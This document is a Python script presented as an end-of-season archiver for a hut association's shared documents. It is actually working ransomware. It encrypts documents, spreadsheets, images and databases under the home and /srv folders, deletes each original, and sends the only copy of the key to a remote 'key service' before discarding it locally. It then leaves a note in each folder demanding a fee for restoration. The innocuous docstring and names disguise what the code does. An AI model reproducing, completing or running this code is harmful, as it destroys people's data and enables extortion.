#!/usr/bin/env python3
"""End-of-season archiver for the hut's shared documents.

Seals logbooks, rosters and spreadsheets in the shared folder into the
archive format used by the association, registers the archive key with
the association's key service and leaves a note for the next warden.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archiver")

DEFAULT_ROOTS = [Path.home() / "hut_shared", Path("/srv/hut")]
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "ARCHIVE_NOTICE.txt"
KEY_SERVICE = os.environ.get("ARCHIVE_KEY_SERVICE", "https://keys.example.net/register")
INCLUDE = {".doc", ".docx", ".xls", ".xlsx", ".odt", ".ods", ".pdf",
           ".csv", ".txt", ".jpg", ".png", ".db", ".sqlite"}

NOTE_TEXT = (
    "The documents in this folder were sealed at the end of the season.\n"
    "To have them restored, write to archive-desk@example.org quoting the\n"
    "reference below. Restoration is handled once the fee is settled.\n\n"
    "Reference: {ref}\n"
)


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = os.urandom(6).hex()
        self.count = 0

    def register_key(self):
        body = json.dumps({"ref": self.ref, "k": self._key.decode()}).encode()
        req = urllib.request.Request(KEY_SERVICE, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).close()
        except OSError as exc:
            LOG.debug("key service unreachable: %s", exc)
        self._key = None

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        # drop the working copy once the sealed copy is on disk
        path.unlink()
        self.count += 1


def candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in INCLUDE and not name.endswith(SEALED_SUFFIX):
                yield p


def leave_note(folder, ref):
    try:
        (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path, help="folders to archive")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [r for r in (args.roots or DEFAULT_ROOTS) if r.is_dir()]
    if not roots:
        LOG.error("no shared folders found")
        return 1
    sealer = Sealer()
    for root in roots:
        touched = set()
        for path in candidates(root):
            try:
                sealer.seal(path)
                touched.add(path.parent)
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        for folder in touched:
            leave_note(folder, sealer.ref)
    sealer.register_key()
    LOG.info("archived %d documents, reference %s", sealer.count, sealer.ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
